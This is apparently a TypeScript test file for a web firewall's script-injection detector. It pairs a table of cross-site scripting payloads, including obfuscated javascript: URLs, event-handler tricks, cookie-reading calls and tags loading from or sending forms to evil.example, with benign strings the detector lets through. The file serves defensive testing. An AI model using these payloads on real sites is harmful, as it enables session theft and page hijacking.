import { ok, strictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { findScript } from "../../src/detect/index.ts";

const ATTACKS: readonly (readonly [what: string, value: string])[] = [
  ["an event of Vue", '<p v-on:click="alert(1)">'], ["a short event of Vue", '<p @click="fetch(x)">'], ["an event of Alpine", '<p x-on:mouseover="alert(1)" x-data>'],
  ["code of Alpine", '<p x-init="alert(1)" x-data>'], ["an event of AngularJS", '<p ng-mouseover="$event.view.alert(1)">'], ["an event of htmx", '<p hx-on:click="alert(1)">'],
  ["a style sheet that is closed to fetch", "}body{background:url(//evil.example/x)}/*"],
  ["a script element", "hello <script>steal()</script>"],
  ["a script element with an address", "<script src=//evil.example/x.js></script>"],
  ["a script element in another name-space", '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,go(1)"/>'],
  ["a script element with NULs in its name", "<scr\0ipt>go(1)</scr\0ipt>"],
  ["a script element behind an unclosed quote", '<i title="<script>go(1)</script>'],
  ["an event handler without blanks", "<svg/onload=go(1)>"],
  ["an event handler behind a control character", "<img\x0bsrc=x\x0conerror=go(1)>"],
  ["an event handler nobody knows yet", "<mark onwhateverhappens=go(1)>"],
  ["an event handler behind a broken attribute", '" autofocus onfocus=go(1) x="'],
  ["an event handler right behind a quote", "'onmouseover='go(1)"],
  ["a script address", '<a href="javascript:go(1)">x</a>'],
  ["a script address with blanks in it", '<a href="java\tscr\nipt:go(1)">x</a>'],
  ["a script address spelt in references", "<a href=&#106;avascript&colon;go&lpar;1&rpar;>x</a>"],
  ["a script address by itself", "javascript:go(document.cookie)"],
  ["a page in a data address", "<iframe src='data:text/html;base64,PHA+'></iframe>"],
  ["a frame with its page", "<iframe srcdoc='hello'></iframe>"],
  ["a base that moves all addresses", "<base href=//evil.example/>"],
  ["a form that sends elsewhere", '<form action="//evil.example">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'],
  ["an animation of an address", '<svg><a><animate attributeName=href values="javascript:go(1)" /></a></svg>'],
  ["an expression in a style", '<p style="width:exp/**/ression(go(1))">'],
  ["a binding in a style", "<p style=-moz-binding:url(//evil.example/x.xml#x)>"],
  ["a call behind a broken string", "';alert(1)//"],
  ["a call inside a sum of strings", "\"-alert(document.domain)-\""],
  ["a call with a back-tick", "'+alert`1`+'"],
  ["a call of a bracketed name", "(alert)(1)"],
  ["a call over call", "confirm.call(null, 1)"],
  ["a member reached by a text", "window['ale'+'rt'](1)"],
  ["a function handed over", "[1].some(confirm)"],
  ["a chain of constructors", "[].filter.constructor('go(1)')()"],
  ["a program of brackets", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"],
]; // biome-ignore format: one row each

const HONEST: readonly string[] = [ '<my-card @click="save(x)" :value="document.title">',
  '<my-button @click="save(item)" :label="text" v-if="items.length">', '<p v-for="a in b" :key="a.id">', ".a{color:red}.b{background:url(a.png)}", "} else { go(url(1)) }",
  "", "a < b and c > d", "I <3 you", "List<String> names = new ArrayList<>();", "Map<String, List<Integer>> counts", "John <john@example.com> wrote:",
  "use <b>bold</b> and <i>italic</i>", '<p>Read <a href="https://example.com/?a=1&b=2">this</a></p>', '<img src="https://example.com/a.png" alt="a cat">',
  "if (a < b) { return c; }", "JavaScript: the good parts (2008)", "JavaScript: Basics of JavaScript Language", "Please confirm (by mail) that you come",
  "Open(24h) all day", 'he said "hello", then left; (see above)', "only=1 once=2 online=3", "- [x] done (really)", "((1+2)*3)-[4]",
  "std::vector<int> v; cout << v[0] << endl;", "function add(a, b) { return a + b; }", "O'Brien, 5\" x 7\", 3/4\"", "'tis the season; let's go - (again)",
  "data: 3 items; text: none", '<span style="color: red; background: url(a.png)">x</span>', "data:image/png;base64,iVBORw0KGgo=", "<!-- a comment -->",
  '{"a": "b", "c": ["d"]}', "x => x + 1", "https://example.com/a?b=c&d=e#f", "안녕하세요 <3 (반가워요)", "π ≈ 3.14; e = 2.71", "tel: 02-123-4567 (office)",
]; // biome-ignore format: one table

describe("The firewall's script detector", () => {
  for (const [what, value] of ATTACKS) test(`finds ${what}`, () => ok((findScript(value)?.weight ?? 0) >= 4, value));
  for (const value of HONEST)
    test(`lets through ${JSON.stringify(value)}`, () => strictEqual(findScript(Buffer.from(value).toString("latin1")), undefined));

  test("never throws and keeps its excerpt short, whatever the value", () => {
    const bytes = fc.string({
      unit: fc.constantFrom(
        ..."<>/=\"'`:;&#x41 script onload java()[]{}!+-.\\\0\n".split(""),
        "<script",
        "javascript:",
        "onload=",
        "alert(",
      ),
      maxLength: 200,
    });
    fc.assert(
      fc.property(bytes, (value) => (findScript(value, 1)?.excerpt.length ?? 0) <= 100),
      { numRuns: 2_000 },
    );
  });

  test("calls nesting without end an attack instead of reading it over and over", () => {
    strictEqual(findScript('<a b="'.repeat(40_000))?.kind, "script.nested-markup");
  });
});
